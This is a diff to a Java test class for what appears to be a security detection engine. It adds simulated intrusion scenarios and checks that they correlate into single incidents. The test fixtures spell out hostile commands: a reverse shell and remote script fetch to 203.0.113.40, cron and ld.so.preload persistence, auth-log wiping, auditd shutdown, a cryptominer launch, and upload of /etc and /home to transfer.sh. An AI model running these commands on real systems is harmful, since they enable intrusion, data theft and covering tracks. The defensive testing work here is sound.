@@ -148,6 +148,85 @@ class ConclusionsTest {
     void theSameEventsMakeTheSameIncidentInAnyOrderOverAnyReplicaTwiceAndLate(Databases databases)
             throws IOException, InterruptedException {
         chain();
+        inAnyOrderOverAnyReplicaTwiceAndLate(
+                databases,
+                3,
+                List.of(
+                        "brute_force_detected",
+                        "credential_access",
+                        "dns_tunnel",
+                        "reconnaissance_burst",
+                        "reverse_shell_netcat",
+                        "shadow_file_read",
+                        "twenty_failures"));
+    }
+
+    /** What a machine does besides: jobs, logins by key, names that everybody asks. */
+    private void noise() {
+        for (int i = 0; i < 60; i++) {
+            process(
+                    i * 61 + 3,
+                    List.of("ls -la", "git pull --ff-only", "tail -f /var/log/app.log", "df -h")
+                            .get(i % 4));
+            add(
+                    i * 59 + 11,
+                    "dns",
+                    "{\"action\":\"query\"},\"source\":{\"ip\":\"10.0.0.7\"},\"dns\":{\"question\":{\"name\":\""
+                            + (i % 2 == 0 ? "deb.debian.org" : "api.github.com") + "\",\"type\":\"A\"}}");
+        }
+    }
+
+    private void persisted(int second, String kind, String path, String runs) {
+        add(
+                second,
+                "persistence",
+                "{\"action\":\"created\"},\"persistence\":{\"kind\":\"" + kind + "\",\"path\":\"" + path
+                        + "\",\"runs\":\"" + runs + "\"},\"file\":{\"path\":\"" + path + "\"}");
+    }
+
+    @Test
+    void aServiceThatWasBrokenIntoAndStaysIsOneIncidentInAnyOrder(Databases databases)
+            throws IOException, InterruptedException {
+        noise();
+        process(1_000, "curl -fsSL http://203.0.113.40/i.sh -o /tmp/i.sh");
+        process(1_020, "bash -i >& /dev/tcp/203.0.113.40/443 0>&1");
+        persisted(1_100, "cron_d", "/etc/cron.d/zz-cache", "curl -s http://203.0.113.40/c | sh");
+        persisted(1_130, "ld_preload", "/etc/ld.so.preload", "/usr/lib/libsel.so");
+        process(1_200, "shred -u /var/log/auth.log");
+        inAnyOrderOverAnyReplicaTwiceAndLate(
+                databases, 1, List.of("persistence_ld_preload", "persistence_runs_suspicious"));
+    }
+
+    @Test
+    void aMinerThatStopsWhatWatchesIsOneIncidentInAnyOrder(Databases databases)
+            throws IOException, InterruptedException {
+        noise();
+        process(900, "systemctl stop auditd");
+        process(950, "xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 48ab");
+        for (int i = 0; i < 5; i++) {
+            add(
+                    960 + i * 60,
+                    "dns",
+                    "{\"action\":\"query\"},\"source\":{\"ip\":\"10.0.0.7\"},\"dns\":{\"question\":{\"name\":"
+                            + "\"pool.supportxmr.com\",\"type\":\"A\"}}");
+        }
+        persisted(1_300, "systemd_service", "/etc/systemd/system/netd.service", "/tmp/.m/netd");
+        inAnyOrderOverAnyReplicaTwiceAndLate(databases, 1, List.of("audit_service_stopped", "dns_miner_pool"));
+    }
+
+    @Test
+    void guessedThenSentOutIsOneIncidentInAnyOrder(Databases databases) throws IOException, InterruptedException {
+        noise();
+        IntStream.range(0, 25).forEach(i -> login(600 + i * 7, false, "backup"));
+        login(800, true, "backup");
+        process(850, "tar czf /tmp/d.tgz /etc /home");
+        process(900, "curl --upload-file /tmp/d.tgz https://transfer.sh/d.tgz");
+        process(960, "sed -i /203.0.113.9/d /var/log/auth.log");
+        inAnyOrderOverAnyReplicaTwiceAndLate(databases, 1, List.of("brute_force_detected", "log_lines_removed"));
+    }
+
+    private void inAnyOrderOverAnyReplicaTwiceAndLate(Databases databases, int seeds, List<String> names)
+            throws IOException, InterruptedException {
         List<String> wanted;
         List<String> found;
         try (TestServer server = TestServer.start(databases, withCounting(directory.resolve("one")), SETTINGS)) {
@@ -156,16 +235,8 @@ class ConclusionsTest {
             found = findings(server);
         }
         assertThat(wanted).hasSize(1);
-        assertThat(found)
-                .contains(
-                        "brute_force_detected",
-                        "credential_access",
-                        "dns_tunnel",
-                        "reconnaissance_burst",
-                        "reverse_shell_netcat",
-                        "shadow_file_read",
-                        "twenty_failures");
-        for (long seed = 1; seed <= 3; seed++) {
+        assertThat(found).containsAll(names);
+        for (long seed = 1; seed <= seeds; seed++) {
             Random random = new Random(seed);
             List<String> shuffled = new ArrayList<>(events);
             Collections.shuffle(shuffled, random);
